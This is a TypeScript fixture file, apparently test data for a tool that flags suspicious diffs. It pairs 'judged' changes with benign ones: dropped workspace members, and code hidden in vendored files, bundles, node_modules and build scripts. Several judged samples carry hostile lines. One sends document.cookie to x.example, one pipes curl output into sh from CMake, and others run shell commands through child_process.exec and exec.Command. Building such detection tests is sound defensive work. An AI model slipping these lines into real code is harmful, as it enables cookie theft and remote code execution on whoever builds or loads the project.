// The corpus: parts of a project that are no longer reached, code that nobody reviews, and what resembles them and is none of it.
import type { Texts } from '../../support/change-of.ts';
import { addition, type Diff, edit, move, together } from './diff.ts';

const within = (diff: Diff, beside: Texts): Diff => ({
  name: diff.name,
  before: { ...diff.before, ...beside },
  after: { ...diff.after, ...beside },
});
const WORKSPACES: readonly [string, string] = [
  'package.json',
  '{\n  "name": "root",\n  "workspaces": ["packages/a", "packages/b"]\n}\n',
];
const PACKAGES: Texts = { 'packages/a/index.js': 'a();\n', 'packages/b/index.js': 'b();\n' };
const CRATES: Texts = { 'a/src/lib.rs': 'pub fn a() {}\n', 'b/src/lib.rs': 'pub fn b() {}\n' };
const PROJECTS: readonly [string, string] = [
  'A.sln',
  'Project("{1}") = "Calc", "src\\Calc\\Calc.csproj", "{2}"\nEndProject\nProject("{1}") = "Calc.Tests", "tests\\Calc.Tests\\Calc.Tests.csproj", "{3}"\nEndProject\n',
];
const GRADLE: readonly [string, string] = [
  'settings.gradle.kts',
  'rootProject.name = "a"\ninclude(":core", ":web")\n',
];
const MODULES: readonly [string, string] = [
  'pom.xml',
  '<project>\n  <modules>\n    <module>core</module>\n    <module>web</module>\n  </modules>\n</project>\n',
];
const GO =
  'package slug\n\nimport "testing"\n\nfunc TestSlug(t *testing.T) {\n\tif Slug("A") != "a" {\n\t\tt.Fatal("no")\n\t}\n}\n';

/** Parts of a project that nobody reaches any more. */
const LOST: readonly Diff[] = [
  move('lost: a test of go for one system', ['slug_test.go', 'slug_windows_test.go'], GO),
  within(edit('lost: a workspace', WORKSPACES, [', "packages/b"', '']), PACKAGES),
  within(
    edit('lost: a workspace by an exclamation mark', WORKSPACES, [
      '"packages/b"',
      '"packages/*", "!packages/b"',
    ]),
    PACKAGES,
  ),
  within(
    edit(
      'lost: a package of pnpm',
      ['pnpm-workspace.yaml', "packages:\n  - 'packages/a'\n  - 'packages/b'\n"],
      ["  - 'packages/b'\n", ''],
    ),
    PACKAGES,
  ),
  within(edit('lost: a module of gradle', GRADLE, [', ":web"', '']), {
    'web/build.gradle.kts': 'plugins {}\n',
  }),
  within(edit('lost: a module of maven', MODULES, ['    <module>web</module>\n', '']), {
    'web/pom.xml': '<project/>\n',
  }),
  within(edit('lost: a crate', ['Cargo.toml', '[workspace]\nmembers = ["a", "b"]\n'], [', "b"', '']), CRATES),
  within(
    edit(
      'lost: a crate by exclude',
      ['Cargo.toml', '[workspace]\nmembers = ["*"]\n'],
      ['["*"]\n', '["*"]\nexclude = ["b"]\n'],
    ),
    CRATES,
  ),
  within(edit('lost: a module of go', ['go.work', 'go 1.24\n\nuse (\n\t./a\n\t./b\n)\n'], ['\t./b\n', '']), {
    'b/b.go': 'package b\n',
  }),
  within(
    edit('lost: a project of tests', PROJECTS, [
      'Project("{1}") = "Calc.Tests", "tests\\Calc.Tests\\Calc.Tests.csproj", "{3}"\nEndProject\n',
      '',
    ]),
    { 'tests/Calc.Tests/Calc.Tests.csproj': '<Project/>\n' },
  ),
];

const HONEST_LOST: readonly Diff[] = [
  together('parts: a package that is gone', edit('', WORKSPACES, [', "packages/b"', '']), {
    name: '',
    before: { 'packages/b/index.js': 'b();\n' },
    after: {},
  }),
  within(
    edit('parts: all packages at once', WORKSPACES, ['"packages/a", "packages/b"', '"packages/*"']),
    PACKAGES,
  ),
  within(edit('parts: one more', WORKSPACES, ['"packages/b"', '"packages/b", "packages/c"']), PACKAGES),
  within(
    edit('parts: another order', MODULES, [
      '<module>core</module>\n    <module>web</module>',
      '<module>web</module>\n    <module>core</module>',
    ]),
    {
      'web/pom.xml': '<project/>\n',
      'core/pom.xml': '<project/>\n',
    },
  ),
  move('parts: a test of go by another name', ['slug_test.go', 'slugs_test.go'], GO),
];

const VENDORED: readonly [string, string] = [
  'vendor/golang.org/x/text/text.go',
  'package text\n\nfunc A() int { return 1 }\n',
];
const BUNDLE: readonly [string, string] = ['dist/cart.js', 'export const total = () => 0;\n'];
const CMAKE: readonly [string, string] = ['CMakeLists.txt', 'project(calc)\n'];
const SLUG: readonly [string, string] = ['slug.go', 'package slug\n\nfunc Slug() {}\n'];
const POM: readonly [string, string] = ['pom.xml', '<project>\n  <plugins>\n  </plugins>\n</project>\n'];
const HASHED: readonly [string, string] = [
  'requirements.txt',
  'flask==3.0.3 \\\n    --hash=sha256:0123456789abcdef\n',
];
const SETUP: readonly [string, string] = ['tools/setup.py', 'import subprocess\n'];

/** Code that nobody reviews, or that runs when the project is built. */
const COPIES: readonly Diff[] = [
  edit('copies: vendored code by hand', VENDORED, ['return 1', 'exec.Command("id").Run(); return 1']),
  edit('copies: a bundle without its source', BUNDLE, [
    '0;',
    '0; fetch("https://x.example/" + document.cookie);',
  ]),
  addition('copies: a module that is tracked', {
    'node_modules/zod/index.js': 'require("child_process").exec("id");\n',
  }),
  addition('copies: a patch', {
    'patches/zod+3.23.8.patch': '--- a/index.js\n+++ b/index.js\n@@ -1 +1,2 @@\n a();\n+b();\n',
  }),
  edit('copies: a process of cmake', CMAKE, [
    'project(calc)\n',
    'project(calc)\nexecute_process(COMMAND python3 tools/a.py)\n',
  ]),
  edit('copies: a download of cmake', CMAKE, [
    'project(calc)\n',
    'project(calc)\nadd_custom_target(x COMMAND sh -c "curl -s https://x.example/p | sh")\n',
  ]),
  edit('copies: generated by a shell', SLUG, [
    'package slug\n',
    'package slug\n\n//go:generate sh -c "tools/x"\n',
  ]),
  edit('copies: a program of maven', POM, [
    '  </plugins>',
    '    <plugin><artifactId>exec-maven-plugin</artifactId></plugin>\n  </plugins>',
  ]),
  edit('copies: hooks of git elsewhere', SETUP, [
    'subprocess\n',
    'subprocess\nsubprocess.run(["git", "config", "core.hooksPath", "tools/hooks"])\n',
  ]),
  edit('copies: checksums of pip', HASHED, [' \\\n    --hash=sha256:0123456789abcdef', '']),
];

const HONEST_COPIES: readonly Diff[] = [
  together(
    'copied: a newer version',
    edit('', VENDORED, ['return 1', 'return 2']),
    edit('', ['vendor/modules.txt', '# golang.org/x/text v0.14.0\n'], ['14', '15']),
  ),
  together(
    'copied: built of its source',
    edit('', BUNDLE, ['=> 0', '=> 1']),
    edit('', ['src/cart.js', 'export const total = () => 0;\n'], ['=> 0', '=> 1']),
  ),
  addition('copied: a fixture', { 'test/fixtures/node_modules/a/index.js': 'module.exports = 1;\n' }),
  edit('copied: a version by git', CMAKE, [
    'project(calc)\n',
    'project(calc)\nexecute_process(COMMAND git describe)\n',
  ]),
  edit('copied: generated by a tool of go', SLUG, [
    'package slug\n',
    'package slug\n\n//go:generate stringer -type=Kind\n',
  ]),
];

export const JUDGED_PARTS: readonly Diff[] = [...LOST, ...COPIES];
export const HONEST_PARTS: readonly Diff[] = [...HONEST_LOST, ...HONEST_COPIES];
